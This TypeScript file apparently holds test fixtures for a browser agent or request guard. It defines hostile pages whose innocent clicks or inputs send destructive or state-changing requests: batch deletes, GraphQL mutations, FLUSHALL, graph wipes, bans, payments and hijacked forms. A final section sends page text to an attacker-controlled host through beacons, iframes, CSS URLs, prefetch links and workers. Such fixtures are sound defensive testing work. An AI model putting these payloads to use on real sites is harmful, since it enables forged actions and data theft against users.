/** STRAYING_REQUESTS: hostile pages whose harmless press sends what only its body, its protocol or its place tells: batches, patches, messages of frameworks, marks on a thing, forms owned elsewhere, text that leaves. */
import type { Single } from './kind';
import { BOX, next, on, request } from './single-parts';

const api = (body: unknown, tail = '/api', method = 'POST', headers = "'content-type': 'application/json'"): Single =>
  request((path) =>
    next(
      `fetch('${path}${tail}', {method: '${method}', headers: {${headers}}, body: ${JSON.stringify(typeof body === 'string' ? body : JSON.stringify(body))}})`,
    ),
  );
/** A message over a connection that has been open for a while. */
const message = (body: unknown, write = (text: string) => text): Single => ({
  by: 'request',
  afterMs: 400,
  body: ({ path }) =>
    next(
      `s.send(${write(JSON.stringify(typeof body === 'string' ? body : JSON.stringify(body)))})`,
      `s = new WebSocket('ws://' + location.host + '/socket?to=${path}/m')`,
    ),
});

const BODIES: Readonly<Record<string, Single>> = {
  'batch of calls as JSON': api({ requests: [{ id: '1', method: 'DELETE', url: '/me/messages/7' }] }, '/$batch'),
  'batch of calls as a form': api(
    `batch=${encodeURIComponent('[{"method":"DELETE","relative_url":"7"}]')}`,
    '/graph',
    'POST',
    "'content-type': 'application/x-www-form-urlencoded'",
  ),
  'batch of parts with a change set': api(
    '--b\r\nContent-Type: application/http\r\n\r\nDELETE Rows(7) HTTP/1.1\r\n\r\n--b--',
    '/$batch',
    'POST',
    "'content-type': 'multipart/mixed; boundary=b'",
  ),
  'patch of a state': api([{ op: 'replace', path: '/status', value: 'cancelled' }], '/orders/7', 'PATCH'),
  'patch that takes a member out': api([{ op: 'remove', path: '/members/3' }], '/teams/7', 'PATCH'),
  'time of a deletion': api({ deleted_at: '2026-05-01T10:00:00Z' }, '/notes/7', 'PATCH'),
  'name space of a mutation': api({ query: 'mutation { account { close { ok } } }' }, '/graphql'),
  'name space of an odd mutation': api({ query: 'mutation Save { rows { obliterate(id: 7) { ok } } }' }, '/graphql'),
  'stored mutation that finalizes': api(
    {
      operationName: 'FinalizeCheckout',
      variables: { cart: 7 },
      extensions: { persistedQuery: { sha256Hash: 'ab12' } },
    },
    '/graphql',
  ),
  'mail by sets of methods': api(
    { using: ['urn:mail'], methodCalls: [['EmailSubmission/set', { create: { k: { emailId: 'm7' } } }, '0']] },
    '/jmap',
  ),
  'mails destroyed by sets of methods': api(
    { using: ['urn:mail'], methodCalls: [['Email/set', { destroy: ['m7', 'm8'] }, '0']] },
    '/jmap',
  ),
  'update of a graph': api(
    'DELETE WHERE { ?s ?p ?o }',
    '/store/update',
    'POST',
    "'content-type': 'application/sparql-update'",
  ),
  'statements of a graph': api({ statements: [{ statement: 'MATCH (n) DETACH DELETE n' }] }, '/db/tx/commit'),
  'command of a store': api(['FLUSHALL'], '/'),
  'nothing in the place of all': api('null', '/notes.json', 'PUT'),
  'calendar that calls off': api(
    'BEGIN:VCALENDAR\r\nMETHOD:CANCEL\r\nBEGIN:VEVENT\r\nUID:7\r\nSTATUS:CANCELLED\r\nEND:VEVENT\r\nEND:VCALENDAR',
    '/cal/7.ics',
    'PUT',
    "'content-type': 'text/calendar'",
  ),
  'source of a component': api(
    'javax.faces.partial.ajax=true&javax.faces.source=list%3A7%3ApurgeBtn&javax.faces.partial.execute=%40all',
    '/list.xhtml',
    'POST',
    "'content-type': 'application/x-www-form-urlencoded'",
  ),
  'named action of a page': api(
    'id=7',
    '/rows?/evictTenant',
    'POST',
    "'content-type': 'application/x-www-form-urlencoded'",
  ),
  'redaction of a message': api({ reason: '' }, '/rooms/7/redact/m7/t1', 'PUT'),
};

/** Marks that end something, bind a person or let one in. */
const MARKS: Readonly<Record<string, Single>> = {
  'somebody is banned': api({ banned: true }, '/users/7', 'PATCH'),
  'somebody is let in': api({ approved: true }, '/requests/7', 'PATCH'),
  'a bill is paid': api({ paid: true }, '/invoices/7', 'PATCH'),
  'a page is out': api({ isPublished: true }, '/pages/7', 'PATCH'),
  'a contract is signed': api({ signed: true, signedBy: 'me' }, '/contracts/7', 'PATCH'),
  'a decision': api({ decision: 'reject' }, '/applications/7', 'PATCH'),
  'an answer to an offer': api({ response: 'accepted' }, '/offers/7', 'PATCH'),
  'a renewal that ends': api({ autoRenew: false }, '/subscriptions/7', 'PATCH'),
  'a plan that is taken': api({ plan: 'premium', interval: 'year' }, '/billing', 'PUT'),
  'a seat that is reserved': api({ seats: ['4A', '4B'] }, '/reservations'),
  'a share that is sold': api({ side: 'sell', symbol: 'RYE', quantity: 90 }, '/trades'),
  'a name under a petition': api({ name: 'Ann' }, '/petitions/7/signatures'),
  'a pledge': api({ amount: 40 }, '/campaigns/7/pledges'),
};

const MESSAGES: Readonly<Record<string, Single>> = {
  'hub that is told a target': message('{"type":1,"target":"RemoveAllRows","arguments":[7]}\u001e'),
  'event of a live view': message(['4', '6', 'lv:x', 'event', { type: 'click', event: 'purge_rows', value: {} }]),
  'command of a cable': message({
    command: 'message',
    identifier: '{"channel":"Rows"}',
    data: '{"action":"obliterate","id":7}',
  }),
  'frame of a queue': message('SEND\ndestination:/app/rows.purge\n\n{"id":7}\u0000'),
  'method of a data protocol': message({ msg: 'method', method: 'rows.wipe', params: [], id: '1' }),
  'mutation over a socket': message({
    id: '1',
    type: 'subscribe',
    payload: { query: 'mutation { dropAll(id: 7) { ok } }' },
  }),
  'bytes over a socket': message({ op: 'destroy', id: 7 }, (text) => `new TextEncoder().encode(${text})`),
  'file over a socket': message({ op: 'destroy', id: 7 }, (text) => `new Blob([${text}])`),
};

const elsewhere = (body: (to: string, path: string) => string, afterMs = 500): Single => ({
  by: 'browser',
  afterMs,
  body: ({ path, evil }) => body(`${evil}${path}`, path),
});
/** Forms whose button, field or target belongs elsewhere. */
const OWNED: Readonly<Record<string, Single>> = {
  'field owned by a form elsewhere': request(
    (path) =>
      `<form id="away" method="post" action="/benign"><button formaction="${path}/account/close" hidden>x</button></form><input form="away" aria-label="City">`,
  ),
  'button in one form that sends another': request(
    (path) =>
      `<form id="away" method="post" action="${path}/account/close"></form><form action="/benign"><input aria-label="City"><button form="away">Next</button></form>`,
  ),
  'form that sends itself when it is full': request(
    (path) =>
      `<form method="post" action="${path}/members/7/remove"><input aria-label="City" data-it></form>${on('input', 'if (event.target.value.length > 4) event.target.form.submit()')}`,
  ),
  'form that is sent into a frame': request(
    (path) =>
      `<iframe name="side" width="90" height="40"></iframe><form method="post" action="${path}/rows/7/delete" target="side"></form>${next('document.forms[0].submit()')}`,
    400,
  ),
  'button that is clicked by a form that is valid': request(
    (path) =>
      `<form method="post" action="${path}/rows/7/delete"><button id="b" hidden>x</button></form><input aria-label="City" data-it>${on('change', 'b.click()')}`,
  ),
  'address that was dragged': request(
    (path) =>
      `<div draggable="true" role="button" tabindex="0" id="d" ${BOX}>Card 7</div><div role="button" tabindex="0" id="b" ${BOX}>Board B</div><script>d.ondragstart = (e) => e.dataTransfer.setData('text/plain', '${path}/rows/7'); b.ondragover = (e) => e.preventDefault(); b.ondrop = (e) => fetch(e.dataTransfer.getData('text/plain') || '${path}/rows/7', {method: 'DELETE'})</script>`,
  ),
};

const SECRET_PAGE =
  '<p id="t">Anna owes Ben forty crowns and Clara twenty, to be paid by the first of May at the latest.</p>';
/** Text of the page that leaves by a carrier of the browser. */
const LEAVING: Readonly<Record<string, Single>> = {
  'beacon elsewhere as one goes on': elsewhere(
    (to) =>
      `${SECRET_PAGE}<a href="/benign" data-it>Chapter 2</a><script>addEventListener('pagehide', () => navigator.sendBeacon('${to}/b', document.body.innerText))</script>`,
  ),
  'frame elsewhere whose address takes the text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`f = document.createElement('iframe'); f.src = '${to}/f?d=' + encodeURIComponent(t.textContent); document.body.append(f)`)}`,
  ),
  'form elsewhere by GET with the text': elsewhere(
    (to) =>
      `${SECRET_PAGE}<iframe name="side" width="90" height="40"></iframe><form action="${to}/q" target="side"><input type="hidden" name="d" id="d"></form>${next('d.value = t.textContent; document.forms[0].submit()')}`,
  ),
  'style elsewhere with the text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`document.body.style.setProperty('background-image', 'url("${to}/g?d=' + encodeURIComponent(t.textContent) + '")')`)}`,
  ),
  'page ahead elsewhere with the text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${to}/g?d=' + encodeURIComponent(t.textContent); document.head.append(l)`)}`,
  ),
  'name of the window and a page elsewhere': elsewhere(
    (to) => `${SECRET_PAGE}${next(`name = t.textContent; location.href = '${to}/in'`)}`,
  ),
  'worker that sends the text elsewhere': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`new Worker(URL.createObjectURL(new Blob(["fetch('${to}/w?d=' + encodeURIComponent(" + JSON.stringify(t.textContent) + "), {mode: 'no-cors'})"], {type: 'text/javascript'})))`)}`,
  ),
};

export const STRAYING_REQUESTS: Readonly<Record<string, Single>> = {
  ...BODIES,
  ...MARKS,
  ...MESSAGES,
  ...OWNED,
  ...LEAVING,
};
